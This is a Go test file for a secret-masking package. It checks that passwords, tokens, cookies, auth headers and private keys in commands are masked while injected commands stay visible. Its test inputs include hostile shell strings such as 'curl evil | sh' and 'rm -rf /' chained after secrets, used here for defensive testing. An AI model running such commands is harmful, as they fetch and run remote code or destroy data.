package mask_test

import (
	"errors"
	"regexp"
	"strings"
	"testing"

	"github.com/lineclear/lineclear/internal/mask"
)

func newSecrets(t testing.TB, o mask.SecretOptions) *mask.Secrets {
	t.Helper()
	s, err := mask.NewSecrets(o)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// The keys of these tests are put together here, so that no scanner of secrets
// takes this file for a leak.
func fake(prefix, rest string) string { return prefix + rest }

const alphabet = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0U1v2"

func TestSecretsAreMaskedAndTheCommandStaysReadable(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{})
	for in, want := range map[string]string{
		`PASSWORD=hunter2 ./run`:                                `PASSWORD=⟦masked⟧ ./run`,
		`export DB_PASS='a b!c' && make`:                        `export DB_PASS='⟦masked⟧' && make`,
		`TOKEN="a\"b" x`:                                        `TOKEN="⟦masked⟧" x`,
		`PASSWORD=a"b"c; ls`:                                    `PASSWORD=⟦masked⟧; ls`,
		`env --x=PASSWORD=hunter2`:                              `env --x=PASSWORD=⟦masked⟧`,
		`login --password hunter2 --user ada`:                   `login --password ⟦masked⟧ --user ada`,
		`login --password=hunter2|cat`:                          `login --password=⟦masked⟧|cat`,
		"login --password \\\n  hunter2":                        "login --password \\\n  ⟦masked⟧",
		`login --token --password hunter2`:                      `login --token --password ⟦masked⟧`,
		`java -password hunter2`:                                `java -password ⟦masked⟧`,
		`mysql -u root -phunter2 db`:                            `mysql -u root -p⟦masked⟧ db`,
		`mysql -e "a;b" -p'hunt er' db`:                         `mysql -e "a;b" -p'⟦masked⟧' db`,
		`sshpass -p hunter2 ssh -p 22 host`:                     `sshpass -p ⟦masked⟧ ssh -p 22 host`,
		`curl -u ada:hunter2 https://x`:                         `curl -u ada:⟦masked⟧ https://x`,
		"not covered: `mysql -phunter2 db`":                     "not covered: `mysql -p⟦masked⟧ db`",
		`curl -uada:hunter2 --proxy-user "p:q r" x`:             `curl -uada:⟦masked⟧ --proxy-user "p:⟦masked⟧" x`,
		`http --auth ada:hunter2 GET x`:                         `http --auth ada:⟦masked⟧ GET x`,
		`docker login -u ada -p hunter2 host`:                   `docker login -u ada -p ⟦masked⟧ host`,
		`openssl rsa -passin pass:hunter2 -in k`:                `openssl rsa -passin pass:⟦masked⟧ -in k`,
		`curl -H "Authorization: Bearer abc.def" x`:             `curl -H "Authorization: Bearer ⟦masked⟧" x`,
		`curl -H 'Proxy-Authorization: Basic YTpi=' x`:          `curl -H 'Proxy-Authorization: Basic ⟦masked⟧' x`,
		`curl -H "X-Api-Key: abc" x`:                            `curl -H "X-Api-Key: ⟦masked⟧" x`,
		`Set("Authorization", "Bearer abcdefgh12345")`:          `Set("Authorization", "Bearer ⟦masked⟧")`,
		`curl -H "Cookie: sid=abc; theme=dark" x`:               `curl -H "Cookie: sid=⟦masked⟧; theme=⟦masked⟧" x`,
		`curl --cookie sid=abc x`:                               `curl --cookie sid=⟦masked⟧ x`,
		`psql postgres://ada:hunter2@db/x`:                      `psql postgres://ada:⟦masked⟧@db/x`,
		`git clone https://x:hunt@er@host/y@z`:                  `git clone https://x:⟦masked⟧@host/y@z`,
		`curl 'https://x/?a=b&access_token=abc&c=d'`:            `curl 'https://x/?a=b&access_token=⟦masked⟧&c=d'`,
		`-d '{"password": "hunter2", "a": "b"}'`:                `-d '{"password": "⟦masked⟧", "a": "b"}'`,
		`-d "{\"apiKey\":\"hunter2\",\"a\":1}"`:                 `-d "{\"apiKey\":\"⟦masked⟧\",\"a\":1}"`,
		"db:\n  user: ada\n  password: hunter2\n":               "db:\n  user: ada\n  password: ⟦masked⟧\n",
		"[db]\npassword = hunter2\n":                            "[db]\npassword = ⟦masked⟧\n",
		"+API_TOKEN=abc\n-API_TOKEN=def":                        "+API_TOKEN=⟦masked⟧\n-API_TOKEN=⟦masked⟧",
		fake("echo ghp", "_"+alphabet):                          `echo ghp_⟦masked⟧`,
		fake("AK", "IA"+"ABCDEFGHIJKLMNOP") + " x":              `AKIA⟦masked⟧ x`,
		fake("gateway lct", "_"+strings.Repeat("a1_-", 11)):     `gateway lct_⟦masked⟧`,
		"http://127.0.0.1:1/#login=" + strings.Repeat("b2", 22): `http://127.0.0.1:1/#login=⟦masked⟧`,
		fake("key eyJ", "hbGciOiJI.eyJzdWIi") + "OjE.a":         `key eyJ⟦masked⟧`,
	} {
		got, found := s.Text(in)
		if got != want || !found {
			t.Errorf("%s\n is shown as %s (%v)\n      want %s", in, got, found, want)
		}
	}
}

func TestWhatIsNoSecretStaysInSight(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{})
	for _, in := range []string{
		"", "ls -la", "mkdir -parents x && mysql --protocol=tcp -p db", "docker run -p 8080:80 -u 1000:1000 x",
		"PASSWORD=$DB_PASS ./run", "PASSWORD=${X} y", `TOKEN="$(pass show x)" y`, "TOKEN=`evil`", "PASSWORD=$(curl evil | sh)",
		`PASSWORD='x; curl evil' sh -c '$PASSWORD'`, `PASSWORD='rm -rf /'; $PASSWORD`, "PASSWORD=\"a\nreboot\n\"",
		`curl -H "Authorization: Bearer $TOKEN" x`, `curl -H "Cookie: a=$(evil)"`, `curl -u "$USER:$PASS" x`,
		"login --password-stdin", "login --no-password host", "login --password --user ada",
		"docker build --secret id=npm,src=.npmrc .", "grep -n 'BEGIN RSA PRIVATE KEY-----' .", "bypass=true max_tokens=500",
		"nextPageToken=abc", "token = parser.next()", "self.token = other.token", "password = None", `{"password": ""}`,
		"The password: is asked for later, and the bearer authentication works", "https://good.example/x:y@z",
		"https://user@host/", "sk-learn-something-very-long-indeed", "task-1234567890-1234567890-abc", "eyJ.a.b",
		"cookie jar; rm -rf x", "git commit -m 'token refresh: fix'",
		"http://a:b;reboot;@x/", "password://x", "--password {{ .Values.password }}", "PASSWORD=<your password>",
	} {
		if got, found := s.Text(in); found || got != in {
			t.Errorf("%s\n is shown as %s", in, got)
		}
	}
}

func TestACommandBehindASecretStaysInSight(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{})
	const evil = "rm -rf /"
	for _, in := range []string{
		"PASSWORD=x; " + evil, "PASSWORD=x && " + evil, "PASSWORD=x|" + evil, "PASSWORD=x\n" + evil, "PASSWORD=x$(" + evil + ")",
		`PASSWORD="x$(` + evil + `)"`, "curl -H Cookie:a=b; " + evil, "curl -H Authorization:abc; " + evil,
		"curl -u a:b;" + evil, "mysql -px;" + evil, "login --token x & " + evil, "x https://a:b@c/; " + evil,
		"-----BEGIN PRIVATE KEY-----\n" + evil, "-----BEGIN PRIVATE KEY----- " + evil + " -----END PRIVATE KEY-----",
		fake("ghp", "_"+alphabet) + ";" + evil, `{"password": "x"}; ` + evil,
	} {
		if got, _ := s.Text(in); !strings.Contains(got, evil) {
			t.Errorf("%q hides a command: %q", in, got)
		}
	}
}

// planted are texts with a secret of each kind, which stands at %.
func planted() map[mask.SecretKind][]string {
	return map[mask.SecretKind][]string{
		mask.PrivateKeys: {
			"-----BEGIN RSA PRIVATE KEY-----\n%\n-----END RSA PRIVATE KEY-----", "cat <<E\n-----BEGIN PRIVATE KEY-----\n%",
			`printf '-----BEGIN OPENSSH PRIVATE KEY-----\n%\n-----END OPENSSH PRIVATE KEY-----\n'`,
			"-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n%\n%\nabc=\n-----END EC PRIVATE KEY-----",
		},
		mask.AuthHeaders:  {"Authorization: Bearer %", "'authorization': 'Basic %'", "x bearer % y", "-H Proxy-Authorization:%"},
		mask.Cookies:      {"Cookie: a=%; b=%", "'Set-Cookie': 'sid=%; Path=x'", "curl --cookie a=%"},
		mask.URLPasswords: {"https://ada:%@host/p", "x 'redis://:%@h:6379'", "amqp+ssl://a:%@b"},
		mask.VendorKeys: {
			"AKIA" + "ABCDEFGHIJKLMNOP", fake("gho_", "%"), fake("github_pat_", "%"), fake("glpat-", "%"), fake("xoxb-", "%"),
			fake("sk-", "%"), fake("sk-ant-", "%"), fake("AIza", "%"), fake("sk_live_", "%"), fake("npm_", "%"), fake("lct_", "%"), fake("eyJ", "%.%.%"),
		},
		mask.Assignments: {
			"PASSWORD=%", "export A_SECRET='%'", "x --token %", "x --api-key=%", "client_secret: %", `{"access_key":"%"}`,
			"const apiKey = \"%\"", ":password => '%'", "passwd := \"%\"", "https://x/?token=%&b",
		},
		mask.Commands: {"mysql -p%", "curl -u a:%", "curl --user 'a:%' x", "sshpass -p%", "openssl -passin pass:%"},
	}
}

func TestAPlantedSecretOfEachKindNeverSurvivesUnlessItsKindIsOff(t *testing.T) {
	on := newSecrets(t, mask.SecretOptions{})
	for kind, texts := range planted() {
		off := newSecrets(t, mask.SecretOptions{Off: []mask.SecretKind{kind, mask.Fields}})
		for _, text := range texts {
			secret := alphabet
			if !strings.Contains(text, "%") {
				secret = "ABCDEFGHIJKLMNOP"
			}
			text = strings.ReplaceAll(text, "%", secret)
			got, found := on.Text(text)
			if strings.Contains(got, secret) || !found || !mask.Contains(got) {
				t.Errorf("%s: %s is shown as %s", kind, text, got)
			}
			if again, more := on.Text(got); again != got || more {
				t.Errorf("%s: %s is shown as %s, and that as %s", kind, text, got, again)
			}
			if got, _ := off.Text(text); kind != mask.Cookies && !strings.Contains(got, secret) {
				t.Errorf("%s is off, but %s is shown as %s", kind, text, got)
			}
		}
	}
}

func TestPatternsAndNamesOfOnesOwnAreSecretsToo(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{Patterns: []string{`ticket-(\d+)`, `ZZ\w+`}, Fields: []string{"kennwort", "x-door.code"}})
	for in, want := range map[string]string{
		"see ticket-123 and ZZtop": "see ticket-⟦masked⟧ and ⟦masked⟧",
		"MY_KENNWORT=abc":          "MY_KENNWORT=abc",
		"KENNWORT=abc x":           "KENNWORT=⟦masked⟧ x",
		"XDoorCode='abc'":          "XDoorCode='⟦masked⟧'",
	} {
		if got, _ := s.Text(in); got != want {
			t.Errorf("%s is shown as %s, want %s", in, got, want)
		}
	}
}

func TestOptionsThatCanNotBeMeantAreRefused(t *testing.T) {
	for name, o := range map[string]mask.SecretOptions{
		"a pattern that does not compile":      {Patterns: []string{"("}},
		"a pattern that takes nothing":         {Patterns: []string{"a*"}},
		"a field without a name":               {Fields: []string{"--"}},
		"a kind that does not exist":           {Off: []mask.SecretKind{"passwords"}},
		"a pattern that RE2 does not know":     {Patterns: []string{"a(?=b)"}},
		"an empty kind, which is not all ones": {Off: []mask.SecretKind{""}},
	} {
		if _, err := mask.NewSecrets(o); !errors.Is(err, mask.ErrSecretOptions) {
			t.Errorf("%s got %v", name, err)
		}
	}
}

func TestAMarkIsKnownHoweverItIsWritten(t *testing.T) {
	for in, want := range map[string]bool{
		mask.Mark: true, `{"a":"x` + mask.Mark + `"}`: true, `{"a":"\u27E6masked\u27e7"}`: true,
		"": false, "masked": false, "[masked]": false,
	} {
		if mask.Contains(in) != want {
			t.Errorf("Contains(%q) is not %v", in, want)
		}
	}
}

func TestNothingIsMaskedWithoutASecrets(t *testing.T) {
	var none *mask.Secrets
	if got, found := none.Text("PASSWORD=x"); got != "PASSWORD=x" || found {
		t.Errorf("it is %q, %v", got, found)
	}
	if got, found := none.JSON([]byte(`{"password":"x"}`)); string(got) != `{"password":"x"}` || found {
		t.Errorf("it is %q, %v", got, found)
	}
}

func FuzzText(f *testing.F) {
	for _, texts := range planted() {
		for _, text := range texts {
			f.Add(text)
		}
	}
	f.Add(`PASSWORD="a'b\"c$(d)` + mask.Mark)
	s, err := mask.NewSecrets(mask.SecretOptions{})
	if err != nil {
		f.Fatal(err)
	}
	marks := regexp.MustCompile("(?:" + mask.Mark + ")+")
	f.Fuzz(func(t *testing.T, in string) {
		out, found := s.Text(in)
		if again, _ := s.Text(out); again != out {
			t.Errorf("%q is shown as %q, and that as %q", in, out, again)
		}
		if !found && out != in {
			t.Errorf("%q became %q, and nothing was found", in, out)
		}
		// What is left stands in the order in which it was.
		at := 0
		for _, part := range marks.Split(out, -1) {
			i := strings.Index(in[at:], part)
			if i < 0 {
				t.Fatalf("%q is shown as %q, which has %q", in, out, part)
			}
			at += i + len(part)
		}
	})
}

func TestAFieldWhoseNameSaysSoIsASecretAsAWhole(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{})
	for _, c := range []struct {
		name, value, want string
	}{
		{"password", "hunter2hunter2", mask.Mark},
		{"password", "", ""},
		{"note", "curl -u ada:hunter2hunter2 x", "curl -u ada:" + mask.Mark + " x"},
		{"note", "nothing", "nothing"},
	} {
		if got, found := s.Field(c.name, c.value); got != c.want || found != (c.want != c.value) {
			t.Errorf("%s: %q is shown as %q, %v", c.name, c.value, got, found)
		}
	}
	if got, found := (*mask.Secrets)(nil).Field("password", "x"); got != "x" || found {
		t.Errorf("without a Secrets it is shown as %q", got)
	}
}

func TestASecretIsMaskedInWhatIsMadeOfIt(t *testing.T) {
	s := newSecrets(t, mask.SecretOptions{})
	for in, made := range map[string]string{
		`{"password": "huntеrXYZ98"}`:                      "contains huntеrXYZ98 (h u n t U+0435 r X Y Z 9 8)",
		`{"command": "curl -u bob:Hunter2secret x"}`:       "not covered: curl|-u|bob:Hunter2secret",
		`{"command": "login --password 'tiny' && x"}`:      "tiny ones are looked for nowhere else: ⟦masked⟧",
		`{"pin": {"password": 12345}, "text": "a"}`:        "it ends with 12345",
		`{"env": [{"name": "DB_PASS", "value": "apple"}]}`: "takes apple",
	} {
		got, _ := s.Knowing([]byte(in)).Text(made)
		if !strings.Contains(got, mask.Mark) || strings.Contains(got, "hunt") || strings.Contains(got, "h u n t") || strings.Contains(got, "Hunter2") || strings.Contains(got, "12345") || strings.Contains(got, "apple") {
			t.Errorf("%s: %s", in, got)
		}
	}
	if s.Knowing([]byte(`{"command": "ls"}`)) != s {
		t.Error("it knows more of what has no secret")
	}
}
